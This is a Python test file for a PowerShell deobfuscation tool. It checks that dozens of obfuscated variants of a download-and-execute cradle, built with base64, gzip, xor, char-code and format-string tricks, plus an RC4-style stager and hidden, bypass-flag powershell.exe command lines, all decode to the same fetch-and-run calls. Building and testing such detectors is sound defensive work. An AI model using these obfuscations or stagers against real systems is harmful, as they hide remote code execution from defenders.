"""Constants are worked out: the usual obfuscations of one script all read the same."""

from __future__ import annotations

import base64
import gzip
import zlib

import pytest

from tidewaiter.catalog.powershell import load
from tidewaiter.reading.budget import Budget
from tidewaiter.reading.powershell import decode_base64, decode_command, parse, script_file

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')"


def utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def deflated(text: str) -> str:
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(machine.compress(text.encode()) + machine.flush()).decode()


def quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


GZIP = base64.b64encode(gzip.compress(SCRIPT.encode())).decode()
CODES = ",".join(str(ord(item)) for item in SCRIPT)
XORED = ",".join(str(ord(item) ^ 0x35) for item in SCRIPT)
HEX = " ".join(f"{ord(item):x}" for item in SCRIPT)
PARTS = [SCRIPT[start : start + 3] for start in range(0, len(SCRIPT), 3)]
ORDER = [(number * 7) % len(PARTS) for number in range(len(PARTS))]
SHUFFLED = "".join(f"{{{ORDER.index(number)}}}" for number in range(len(PARTS)))
UNFOLDED = {
    "concatenation": "+".join(quoted(part) for part in PARTS),
    "format": f"'{SHUFFLED}'-f" + ",".join(quoted(PARTS[number]) for number in ORDER),
    "join": "(" + ",".join(quoted(part) for part in PARTS) + ") -join ''",
    "unary join": f"-join({CODES}|%{{[char]$_}})",
    "as": f"-join('{CODES}'.Split(',')|ForEach-Object{{([int]$_ -as [char])}})",
    "char array": f"[string]::Join('',[char[]]({CODES}))",
    "new string": f"New-Object String(,[char[]]({CODES}))",
    "xor": f"-join(({XORED})|%{{[char]($_ -bxor 0x35)}})",
    "xor text": f"-join('{XORED}'-split','|%{{[char]([int]$_ -bxor '53')}})",
    "hex": f"-join('{HEX}'-split' '|%{{[char][convert]::ToInt32($_,16)}})",
    "reverse index": f"{quoted(SCRIPT[::-1])}[-1..-{len(SCRIPT)}]-join''",
    "reverse regex": f"-join[regex]::Matches({quoted(SCRIPT[::-1])},'.','RightToLeft')",
    "replace": quoted(SCRIPT.replace("'", "qq1")) + ".Replace('qq1',[string][char]39)",
    "-replace": quoted(SCRIPT.replace("'", "qq1")) + "-creplace'qq1',[char]39",
    "base64": f"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{utf16(SCRIPT)}'))",
    "gzip": f"(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::"
    f"FromBase64String('{GZIP}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
    "deflate": f"(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::"
    f"FromBase64String('{deflated(SCRIPT)}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()",
    "insert and remove": f"({quoted('zz' + SCRIPT[2:])}.Remove(0,2)).Insert(0,'IE')",
    "substring": f"{quoted('..' + SCRIPT + '..')}.Substring(2,{len(SCRIPT)})",
    "variables": f'$($a={quoted(SCRIPT[:9])};$b={quoted(SCRIPT[9:])};"$a$b")',
    "trim": f"({quoted('#;' + SCRIPT + '#')}).Trim('#;')",
    "upper": f"({quoted(SCRIPT.upper())}).ToLower()",
    "get-variable": f"$(sv z9 {quoted(SCRIPT)};(gv z9).Value)",
    "stringbuilder": f"$($s=New-Object Text.StringBuilder;[void]$s.Append({quoted(SCRIPT[:5])});"
    f"[void]$s.Append({quoted(SCRIPT[5:])});$s.ToString())",
    "here-string": f"@'\n{SCRIPT}\n'@",
    "url decode": f"[uri]::UnescapeDataString({quoted(SCRIPT.replace('e', '%65'))})",
}
STATEMENTS = {
    "for loop over bytes": f"$b=[byte[]]({XORED});for($i=0;$i -lt $b.Length;$i++){{$b[$i]=$b[$i] -bxor 0x35}};"
    "iex([Text.Encoding]::ASCII.GetString($b))",
    "growing text": f"$r='';foreach($c in {CODES}){{$r+=[char]$c}};iex $r",
    "array reverse": f"$a={quoted(SCRIPT[::-1])}.ToCharArray();[array]::Reverse($a);iex(-join $a)",
    "nested": f"iex {quoted('iex ' + quoted('iex ' + quoted(SCRIPT)))}",
    "output separator": f'$OFS="";iex "$([char[]]({CODES}))"',
    "memory stream": f"$m=New-Object IO.MemoryStream;"
    f"$d=[Convert]::FromBase64String('{GZIP}');$m.Write($d,0,$d.Length);"
    "[void]$m.Seek(0,0);$r=New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($m,'Decompress'));"
    "iex $r.ReadToEnd()",
    "copy stream": f"$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{GZIP}'));$g=New-Object "
    "IO.Compression.GZipStream($m,'Decompress');$o=New-Object IO.MemoryStream;$g.CopyTo($o);"
    "iex ([Text.Encoding]::UTF8.GetString($o.ToArray()))",
    "unclosed quote": 'iex "' + SCRIPT,
    "ticks": "I`E`X (N`ew-O`bject N`et.WebCl`ient).DownloadString('http://example.com/a.ps1')",
}


def check(text: str) -> None:
    budget = Budget(cpu_seconds=5)
    script = parse(text, budget)
    found = [call for call in script if call.program == "system.net.webclient.downloadstring"]
    assert [call.args[0].lower() for call in found] == ["http://example.com/a.ps1"], (budget.steps, budget.limits)
    runs = [call for call in script if call.program == "invoke-expression"]
    assert found[0] in runs[-1].argv[1].content


@pytest.mark.parametrize("name", UNFOLDED)
def test_expression_is_unfolded_and_run(name: str) -> None:
    check(f"iex({UNFOLDED[name]})")
    check(f"({UNFOLDED[name]})|iex")


@pytest.mark.parametrize("name", STATEMENTS)
def test_statements_are_unfolded(name: str) -> None:
    check(STATEMENTS[name])


def test_steps_say_what_was_unfolded() -> None:
    budget = Budget()
    parse(f"iex ({UNFOLDED['base64']})", budget)
    assert [(step.what, step.text) for step in budget.steps] == [("Invoke-Expression", SCRIPT)]


def test_stager_with_an_unknown_cipher_keeps_url_and_flow() -> None:
    text = (
        f"$ser=$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{utf16('http://192.0.2.7:80')}')));$t='/p.php';"
        "$wc=New-Object Net.WebClient;$wc.Headers.Add('User-Agent','x');$K=[Text.Encoding]::ASCII.GetBytes('abc');"
        "$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};"
        "$D|%{$I=($I+1)%256;$_-bxor$S[$I]}};$d=$wc.DownloadData($ser+$t);$iv=$d[0..3];$d=$d[4..$d.length];"
        "-join[Char[]](& $R $d ($IV+$K))|IEX"
    )
    script = parse(text, Budget(cpu_seconds=5))
    assert [(call.program, call.args) for call in script] == [
        ("system.net.webclient.downloaddata", ("http://192.0.2.7:80/p.php",)),
        ("invoke-expression", ()),
    ]
    assert script.invocations[1].stdin == (script.invocations[0],)


# the command line of powershell.exe


@pytest.mark.parametrize(
    ("args", "text"),
    [
        (["-NoP", "-w", "hidden", "-enc", utf16("iwr x")], "iwr x"),
        (["-e", utf16("iwr x").rstrip("=")], "iwr x"),
        (["/ec", utf16("iwr x")], "iwr x"),
        (["–EncodedCommand", utf16("iwr x")], "iwr x"),
        (["-e", base64.b64encode(b"iwr x -o y").decode()], "iwr x -o y"),
        (["-nop", "-exec", "bypass", "-c", "iwr", "x"], "iwr x"),
        (["-ep", "bypass", "-C", "gps"], "gps"),
        (["-version", "2", "-noexit", "gps", "-Name", "x"], "gps -Name x"),
        (["-ex", "bypass", "-f", "a.ps1", "b"], None),
        (["-"], None),
        ([], None),
        (["-enc"], None),
        (["-w", "hidden"], None),
    ],
)
def test_command_line_of_the_host(args: list[str], text: str | None) -> None:
    assert decode_command(args) == text


def test_script_file_of_the_host() -> None:
    assert script_file(["-nop", "-File", "a.ps1", "b", "c"]) == ("a.ps1", ("b", "c"))
    assert script_file(["gps"]) is None
    assert script_file(["a.ps1"], core=True) == ("a.ps1", ())
    assert decode_command(["a.ps1"], core=True) is None


def test_base64_that_is_none() -> None:
    assert decode_base64("") is None
    assert decode_base64("!") is None


def test_knowledge_is_consistent() -> None:
    knowledge = load()
    for name, full in knowledge.aliases.items():
        assert full not in knowledge.aliases, name
    for name, cmdlet in knowledge.cmdlets.items():
        assert not set(cmdlet.values) & set(cmdlet.switches), name
        assert set(cmdlet.short.values()) <= {*cmdlet.values, *cmdlet.switches}, name
        assert {*cmdlet.each, *cmdlet.joined} <= set(cmdlet.values), name
    assert knowledge.canonical_type("Net.WebClient") == "system.net.webclient"
    assert knowledge.canonical_type("[System.Byte[]]") == "system.byte[]"
    assert knowledge.canonical_type("Acme.Agent") == "acme.agent"
